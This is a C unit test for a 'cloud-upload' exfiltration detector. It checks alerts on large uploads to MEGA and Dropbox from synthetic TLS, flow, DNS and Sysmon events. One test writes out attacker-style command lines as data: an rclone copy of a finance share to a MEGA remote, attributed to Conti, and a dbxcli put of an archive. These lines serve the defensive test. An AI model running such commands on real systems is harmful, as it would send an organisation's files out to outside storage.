/* test_cloud_upload.c: the cloud-upload detector with the shipped data/detect.conf: a storage
 * service's address learned from a TLS SNI, then a host's day of uploads to it judged on
 * min_bytes and its own history; names not listed, addresses never named, internal
 * destinations stay quiet; the history survives a restart; addresses learned from DNS answers
 * (Zeek dns.log, Sysmon 22) count the first connection; upload tools started to upload. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "behaviour.h"

static ts_config *shipped_config(void)
{
    ts_config *c = NULL;
    CHECK(ts_config_load(TOCSIN_DATA_DIR "/detect.conf", &c, NULL, NULL) == TOCSIN_OK);
    return c;
}

static void addrs(ts_event *ev, const char *src, const char *dst)
{
    ev->src_ip = ip_of(src);
    ev->dst_ip = ip_of(dst);
    ev->src_geo = geo("", 0, strncmp(src, "10.", 3) ? 0 : TS_NET_INTERNAL);
    ev->dst_geo = geo("NZ", 0, strncmp(dst, "10.", 3) ? 0 : TS_NET_INTERNAL);
    ev->dst_port = 443;
}

static void tls(det *x, const char *src, const char *dst, const char *sni, int64_t ts)
{
    ts_event ev;
    ts_event_clear(&ev);
    ev.ts_ns = ts;
    ev.dataset = TS_STR_LIT("suricata.tls");
    ev.category = TS_CAT_NETWORK | TS_CAT_TLS;
    ev.domain = ts_str_c(sni);
    addrs(&ev, src, dst);
    feed(x, &ev);
}

static void flow(det *x, const char *src, const char *dst, uint64_t bytes, int64_t ts)
{
    ts_event ev;
    ts_event_clear(&ev);
    ev.ts_ns = ts;
    ev.dataset = TS_STR_LIT("suricata.flow");
    ev.category = TS_CAT_NETWORK;
    ev.type = TS_TYPE_CONNECTION | TS_TYPE_END;
    ev.bytes_out = bytes;
    addrs(&ev, src, dst);
    feed(x, &ev);
}

static void test_uploads(const ts_config *cfg)
{
    det x;
    CHECK(det_open(&x, "cloud-upload", cfg));
    /* rclone to MEGA: 4 x 800 MB on the first day; no history, so lower and saying so. */
    tls(&x, "10.0.1.12", "89.44.169.20", "g.api.mega.co.nz", T0);
    for (int i = 0; i < 4; i++)
        flow(&x, "10.0.1.12", "89.44.169.20", 800000000, T0 + (i + 1) * MIN);
    CHECK_INT(n_got, 1);
    const ts_alert *a = find_key("cloud-upload|10.0.1.12|g.api.mega.co.nz");
    CHECK(a && a->severity == 50 && !strcmp(a->techniques, "T1567.002") && strstr(a->title, "1.6 GB") &&
          strstr(a->title, "no earlier upload") && a->direction == TS_DIR_OUTBOUND && a->remote_name &&
          !strcmp(a->remote_name, "g.api.mega.co.nz"));
    drop_all();
    /* The same day goes on: one alert a day. The next day 2 GB is under three times 4 GB. */
    flow(&x, "10.0.1.12", "89.44.169.20", 800000000, T0 + HOUR);
    flow(&x, "10.0.1.12", "89.44.169.20", 2000000000, T0 + DAY);
    CHECK_INT(n_got, 0);
    /* The history survives a restart: 13 GB two days later is over three times the 4 GB day. */
    CHECK_INT(det_reload(&x, cfg), TOCSIN_OK);
    flow(&x, "10.0.1.12", "89.44.169.20", 13000000000ULL, T0 + 2 * DAY);
    a = find_key("cloud-upload|10.0.1.12|");
    CHECK(a && a->severity == 65 && strstr(a->title, "the most before: 4.0 GB"));
    drop_all();
    /* Quiet: a name not listed, a name that only ends like one, an address never named, an
       internal destination, a download. */
    tls(&x, "10.0.1.13", "93.184.216.34", "www.example.com", T0 + 3 * DAY);
    tls(&x, "10.0.1.13", "93.184.216.35", "notmega.co.nz", T0 + 3 * DAY);
    flow(&x, "10.0.1.13", "93.184.216.34", 5000000000ULL, T0 + 3 * DAY + MIN);
    flow(&x, "10.0.1.13", "93.184.216.35", 5000000000ULL, T0 + 3 * DAY + MIN);
    flow(&x, "10.0.1.13", "198.51.100.9", 5000000000ULL, T0 + 3 * DAY + MIN);
    tls(&x, "10.0.1.14", "10.0.9.9", "files.dropbox.com", T0 + 3 * DAY);
    flow(&x, "10.0.1.14", "10.0.9.9", 5000000000ULL, T0 + 3 * DAY + MIN);
    tls(&x, "10.0.1.15", "162.125.1.13", "content.dropboxapi.com", T0 + 3 * DAY);
    flow(&x, "10.0.1.15", "162.125.1.13", 1000, T0 + 3 * DAY + MIN);
    CHECK_INT(n_got, 0);
    /* A host is judged on its own history, not another's. */
    flow(&x, "10.0.1.15", "162.125.1.13", 1500000000, T0 + 3 * DAY + HOUR);
    CHECK(find_key("cloud-upload|10.0.1.15|content.dropboxapi.com") != NULL);
    drop_all();
    det_close(&x);
}

/* A DNS lookup of name by src whose answers are the raw record's fields under key. */
static void lookup(det *x, const char *dataset, const char *src, const char *name, const char *key,
                   const char *const *answers, size_t n, int64_t ts)
{
    ts_event ev;
    ts_field f[4];
    if (!strcmp(dataset, "windows.sysmon")) {
        win(&ev, dataset, 22, "WS20", ts);
    } else {
        ts_event_clear(&ev);
        ev.ts_ns = ts;
        ev.dataset = ts_str_c(dataset);
        ev.category = TS_CAT_NETWORK | TS_CAT_DNS;
        ev.action = TS_STR_LIT("dns-query");
        addrs(&ev, src, "10.0.0.2"); /* the site's resolver */
        ev.dst_port = 53;
    }
    ev.domain = ts_str_c(name);
    for (size_t i = 0; i < n && i < 4; i++)
        f[i] = (ts_field){ts_str_c(key), ts_str_c(answers[i])};
    ev.fields = f;
    ev.n_fields = n < 4 ? n : 4;
    feed(x, &ev);
}

/* Zeek writes a connection's conn.log record at its start, before ssl.log names it: the
   lookup that came first says where the name lives, so the first upload counts. */
static void test_dns_answers(const ts_config *cfg)
{
    det x;
    CHECK(det_open(&x, "cloud-upload", cfg));
    /* Zeek JSON: one field per element of the answers array, a CNAME among them. */
    static const char *const json[] = {"dropbox-dns.l.dropbox.com", "162.125.6.14"};
    lookup(&x, "zeek.dns", "10.0.1.20", "content.dropboxapi.com", "answers", json, 2, T0);
    flow(&x, "10.0.1.20", "162.125.6.14", 2000000000, T0 + 1);
    const ts_alert *a = find_key("cloud-upload|10.0.1.20|content.dropboxapi.com");
    CHECK(a && strstr(a->title, "2.0 GB"));
    drop_all();
    /* Zeek TSV: the set as one comma-separated value; the second address counts too. */
    static const char *const tsv[] = {"mega.co.nz.cdn.example,66.203.125.11,66.203.125.12"};
    lookup(&x, "zeek.dns", "10.0.1.21", "gfs270n052.userstorage.mega.co.nz", "answers", tsv, 1, T0);
    flow(&x, "10.0.1.21", "66.203.125.12", 1500000000, T0 + 1);
    CHECK(find_key("cloud-upload|10.0.1.21|gfs270n052.userstorage.mega.co.nz") != NULL);
    drop_all();
    /* Sysmon 22: QueryResults with a CNAME and an IPv4-mapped address. */
    static const char *const qr[] = {"type:  5 www-env.dropbox-dns.com;::ffff:162.125.248.18;"};
    lookup(&x, "windows.sysmon", NULL, "www.dropbox.com", "QueryResults", qr, 1, T0);
    flow(&x, "10.0.1.22", "162.125.248.18", 1200000000, T0 + 1);
    CHECK(find_key("cloud-upload|10.0.1.22|www.dropbox.com") != NULL);
    drop_all();
    /* Quiet: the answers of a name not listed, and a name listed whose answer is a name only. */
    static const char *const other[] = {"93.184.216.34"}, *const cname[] = {"dropbox-dns.l.dropbox.com"};
    lookup(&x, "zeek.dns", "10.0.1.23", "www.example.com", "answers", other, 1, T0);
    lookup(&x, "zeek.dns", "10.0.1.23", "dropbox.com", "answers", cname, 1, T0);
    flow(&x, "10.0.1.23", "93.184.216.34", 5000000000ULL, T0 + 1);
    CHECK_INT(n_got, 0);
    det_close(&x);
}

static void start(det *x, const char *image, const char *cmd)
{
    ts_event ev;
    win(&ev, "windows.sysmon", 1, "FS1", T0);
    ev.process = ts_str_c(image);
    ev.command_line = ts_str_c(cmd);
    feed(x, &ev);
}

/* Upload tools started with an upload command (Conti's rclone to MEGA, dbxcli to Dropbox). */
static void test_tools(const ts_config *cfg)
{
    det x;
    CHECK(det_open(&x, "cloud-upload", cfg));
    start(&x, "C:\\ProgramData\\rclone.exe",
          "rclone.exe copy \"\\\\fs-01\\Finance\" mega:data -q --ignore-existing --transfers 12");
    const ts_alert *a = find_key("cloud-upload|tool|FS1|rclone.exe");
    CHECK(a && !strcmp(a->techniques, "T1567.002") && a->severity == 60);
    drop_all();
    start(&x, "C:\\Windows\\Temp\\dbxcli.exe", "dbxcli.exe put C:\\Windows\\Temp\\a.rar /a.rar");
    CHECK(find_key("cloud-upload|tool|FS1|dbxcli.exe") != NULL);
    drop_all();
    /* Listing a remote, configuring, or another program naming rclone: no upload. */
    start(&x, "C:\\ProgramData\\rclone.exe", "rclone.exe lsd mega:");
    start(&x, "C:\\ProgramData\\rclone.exe", "rclone.exe config create mega mega user x");
    start(&x, "C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\rclone copy notes.txt");
    CHECK_INT(n_got, 0);
    det_close(&x);
}

int main(void)
{
    ts_config *cfg = shipped_config();
    test_uploads(cfg);
    test_dns_answers(cfg);
    test_tools(cfg);
    ts_config_free(cfg);
    return check_done("test_cloud_upload");
}
